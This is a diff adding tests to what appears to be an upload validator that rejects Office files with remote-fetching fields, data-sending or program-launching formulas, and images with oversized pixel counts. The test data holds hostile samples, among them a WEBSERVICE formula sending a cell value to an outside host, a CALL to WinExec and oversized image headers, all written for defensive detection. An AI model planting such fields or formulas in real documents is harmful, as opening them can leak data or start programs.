@@ -292,3 +292,94 @@ def test_what_programs_write_is_taken(file: Path) -> None:
     assert taken(report.getvalue(), file, "docx").media_type == OOXML + "wordprocessingml.document"
     assert taken(book.getvalue(), file, "xlsx").media_type == OOXML + "spreadsheetml.sheet"
     assert zipfile.is_zipfile(file)
+
+
+# ---- What is fetched from elsewhere by a field or a formula
+
+
+@pytest.mark.parametrize(
+    ("body", "place"),
+    [
+        (field('INCLUDEPICTURE "http://a.cn/1.png" \\d'), "http://a.cn/1.png"),
+        (field(' includepicture \\d "https://a.cn/1.png"'), "https://a.cn/1.png"),
+        (field("INCLUDE", 'TEXT "\\\\\\\\server\\\\x.docx"'), "\\\\\\\\server\\\\x.docx"),
+        (field("IMPORT file:///x.png"), "file:///x.png"),
+        (field("INCLUDEPICTURE ", field("QUOTE 104 116 116 112")), "INCLUDEPICTURE"),
+        (field(' LINK Excel.Sheet.12 "C:\\\\x.xlsx" R1C1'), "LINK"),
+        (field('DATABASE \\d "C:\\\\x.mdb" \\c "DSN=x"'), "DATABASE"),
+        ('<w:fldSimple w:instr="INCLUDETEXT http://a.cn/x.docx"/>', "http://a.cn/x.docx"),
+    ],
+)
+def test_a_field_that_brings_in_something_from_elsewhere(body: str, place: str, file: Path) -> None:
+    fetches = f"fetches {place} when it is opened; break the link, or put what it leads to into the file"
+    assert refusal(package("docx", word(body)), file, "docx") == f"件.docx: {fetches}"
+
+
+def test_fields_of_every_day(file: Path) -> None:
+    """Programs leave where a picture came from that was pasted, on the writer's own disk."""
+    fields = (
+        'INCLUDEPICTURE "C:\\\\Temp\\\\wps1.png" \\* MERGEFORMATINET',
+        "HYPERLINK https://www.gov.cn",
+        "RDX",
+        "TOC \\o",
+    )
+    assert taken(package("docx", word("".join(map(field, fields)))), file, "docx")
+
+
+@pytest.mark.parametrize(
+    ("formula", "words"),
+    [
+        ('_xlfn.WEBSERVICE("http://a.cn/"&amp;A1)', "fetches WEBSERVICE when it is opened"),
+        ('_xlfn.image ("http://a.cn/1.png")', "fetches image when it is opened"),
+        ('WEB<!-- -->SERVICE("http://a.cn/")', "fetches WEBSERVICE when it is opened"),
+        ('RTD("a.server",,"x")', DDE),
+        ('CALL("kernel32","WinExec","JCJ","calc",0)', DDE),
+        ('REGISTER.ID("x","y")', DDE),
+    ],
+)
+def test_a_formula_that_fetches_or_starts_something(formula: str, words: str, file: Path) -> None:
+    assert words in refusal(package("xlsx", sheet(f"<c><f>{formula}</f></c>")), file, "xlsx")
+
+
+def test_formulas_of_every_day_that_look_so(file: Path) -> None:
+    cells = '<c><f>RECALL(1)+MYIMAGE (2)</f></c><c><f>"WEBSERVICE("&amp;A1</f></c><c><f>IMAGE+RTD</f></c>'
+    assert taken(package("xlsx", sheet(cells)), file, "xlsx")
+
+
+# ---- Pictures that cannot be handed in alone
+
+
+HUGE = 65_000
+PICTURES = {
+    "gif": b"GIF89a" + HUGE.to_bytes(2, "little") * 2,
+    "bmp": b"BM"
+    + bytes(12)
+    + (40).to_bytes(4, "little")
+    + HUGE.to_bytes(4, "little")
+    + (-HUGE).to_bytes(4, "little", signed=True),
+    "old.bmp": b"BM" + bytes(12) + (12).to_bytes(4, "little") + HUGE.to_bytes(2, "little") * 2,
+    "extended.webp": b"RIFF\0\0\0\0WEBPVP8X" + bytes(8) + (HUGE - 1).to_bytes(3, "little") * 2,
+    "tif": b"II*\0\x08\0\0\0\x02\0"
+    + b"".join(tag.to_bytes(2, "little") + b"\x03\0\x01\0\0\0" + HUGE.to_bytes(4, "little") for tag in (256, 257))
+    + bytes(4),
+    "big.tif": b"MM\0*\0\0\0\x08\0\x02"
+    + b"".join(tag.to_bytes(2) + b"\0\x04\0\0\0\x01" + HUGE.to_bytes(4) for tag in (256, 257))
+    + bytes(4),
+}
+
+
+@pytest.mark.parametrize("name", PICTURES)
+def test_a_document_with_a_picture_of_too_many_pixels(name: str, file: Path) -> None:
+    said = refusal(package("docx", {f"word/media/1.{name}": PICTURES[name]}), file, "docx")
+    size = f"{HUGE} × {HUGE} pixels, at most 300 million are accepted; scan or save it smaller"
+    assert said == f"件.docx › word/media/1.{name}: has {size}"
+    small = PICTURES[name].replace(HUGE.to_bytes(2, "little"), b"\x64\0").replace(HUGE.to_bytes(2), b"\0\x64")
+    if name not in {"bmp", "extended.webp"}:
+        assert taken(package("docx", {f"word/media/1.{name}": small}), file, "docx")
+
+
+@pytest.mark.parametrize(
+    "cut", [b"GIF89a", b"BM" + bytes(12), b"RIFF\0\0\0\0WEBPVP8L", b"II*\0\x08\0\0\0", b"MM\0*\xff\xff\xff\xff"]
+)
+def test_a_picture_that_is_cut_off_is_no_large_one(cut: bytes, file: Path) -> None:
+    assert taken(package("docx", {"word/media/1.x": cut}), file, "docx")
